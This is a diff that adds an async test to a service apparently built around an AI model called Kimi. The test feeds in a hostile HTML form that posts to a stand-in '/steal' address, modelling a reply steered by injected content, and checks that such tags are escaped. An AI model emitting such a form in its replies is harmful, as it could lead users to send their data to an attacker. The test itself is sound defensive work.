@@ -368,3 +368,15 @@ async def test_a_stop_while_a_document_is_read_deletes_the_uploaded_file(service
     await _cancel(task)
     assert upstream.deleted == list(upstream.files)  # the file does not stay on the owner's account
     assert not upstream.calls
+
+
+async def test_a_reply_cannot_carry_a_form(service, upstream):
+    """A reply steered by what Kimi read: form tags outside code show as text, so no click or typing
+    in a reply can be sent anywhere; code that shows a form keeps it as it is."""
+    injected = (
+        '<form action="http://198.51.100.1/steal"><input name="q"><BUTTON>go</BUTTON></form> and `<form>` in code'
+    )
+    answer = answer_of((await run(service, injected))[-1].messages)
+    assert "<form" not in answer.replace("`<form>`", "") and "<input" not in answer and "<BUTTON" not in answer
+    assert '&lt;form action="http://198.51.100.1/steal"&gt;' not in answer  # only the tag's opening is escaped
+    assert '&lt;form action="http://198.51.100.1/steal">' in answer and "`<form>` in code" in answer
